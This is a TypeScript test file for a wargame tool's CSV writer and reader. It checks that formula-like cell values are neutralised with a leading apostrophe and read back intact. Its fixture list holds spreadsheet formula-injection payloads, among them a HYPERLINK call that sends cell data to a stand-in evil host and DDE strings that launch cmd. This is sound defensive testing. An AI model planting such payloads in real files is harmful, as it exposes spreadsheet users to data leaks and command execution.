import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseCampaign } from '../parse-campaign.js';
import { decodeCsvBytes, parseCsv } from './csv.js';
import { readOobCsv, writeOobCsv } from './oob-csv.js';
import { ledgerCsv, ledgerLines } from '../engine/ledger-report.js';
import type { CampaignState } from './campaign-schema.js';

const demo = parseCampaign(JSON.parse(readFileSync('assets/demo/ocs-demo.campaign.json', 'utf8')));
const empty: CampaignState = { ...demo.setup, units: [], track: [], deadPile: [] };

/** the names a spreadsheet would run as formulas, and the ones that only look alike */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
  "'plain apostrophe",
];

describe('CSV cells a spreadsheet would run', () => {
  it('writes names beginning with = + - @ tab or CR as text, and reads them back unchanged', () => {
    const units = HOSTILE.map((name, k) => ({ ...demo.setup.units[0]!, id: `u${k}`, name }));
    const csv = writeOobCsv({ ...demo.setup, units, track: [] });
    const names = parseCsv(csv)
      .slice(1)
      .map((r) => r.fields[1]);
    expect(names).toEqual(HOSTILE);
    // as a spreadsheet sees the cells: none begins with a formula character
    for (const line of csv.split('\r\n').slice(1, -1)) {
      const cell = /^[^,]*,("(?:[^"]|"")*"|[^,]*)/.exec(line)![1]!.replace(/^"/, '');
      expect(cell).toMatch(/^'/);
    }
    const back = readOobCsv(csv, demo.game, empty);
    expect(back.map((e) => e.unit.name)).toEqual(HOSTILE.map((n) => n));
  });

  it('leaves numbers alone: a negative amount in the ledger stays a number', () => {
    const rows = [
      { id: 1, seq: 1, command: '=cmd', turn: 1, side: 'axis', phase: 'supply', owner: 'axis', dump: 'd1' },
      { id: 2, seq: 2, command: 'fuel', turn: 1, side: 'axis', phase: 'supply', owner: 'axis', dump: 'd1' },
    ].map((r, k) => ({ ...r, hex: '0101', amount: k ? -3 : 5, reason: k ? 'fuel' : 'created', units: [] }));
    const csv = ledgerCsv(ledgerLines(rows), (n) => (n < 0 ? `-${-n / 2}` : String(n / 2)));
    const [, first, second] = parseCsv(csv);
    expect(second!.fields.slice(7, 11)).toEqual(['-3', '-1.5', '2', '2']);
    expect(csv).toContain(',-3,-1.5,2,2,');
    expect(csv).toContain(",'=cmd,");
    expect(first!.fields[12]).toBe('=cmd');
  });
});

describe('names and text as the referee typed them', () => {
  it('keeps leading and trailing spaces in a name', () => {
    const [e] = readOobCsv('name,side,type,hex\n"  2/5 Pz ",axis,inf,1010\n', demo.game, empty);
    expect(e!.unit.name).toBe('  2/5 Pz ');
    const again = readOobCsv(writeOobCsv({ ...empty, units: [e!.unit] }), demo.game, empty);
    expect(again[0]!.unit.name).toBe('  2/5 Pz ');
  });

  it('refuses text that is not UTF-8, naming the row, instead of storing replacement characters', () => {
    const latin1 = Buffer.concat([
      Buffer.from('name,side,type,hex\n1 Pz,axis,inf,1010\n'),
      Buffer.from([0x4d, 0xfc, 0x6e, 0x63, 0x68, 0x65, 0x6e]), // "München" in Latin-1
      Buffer.from(',axis,inf,1011\n'),
    ]);
    expect(() => decodeCsvBytes(latin1, 'oob.csv')).toThrow(/oob\.csv is not UTF-8 text[\s\S]*row 3:/);
    expect(decodeCsvBytes(Buffer.from('name\nMünchen\n'), 'oob.csv')).toBe('name\nMünchen\n');
  });
});
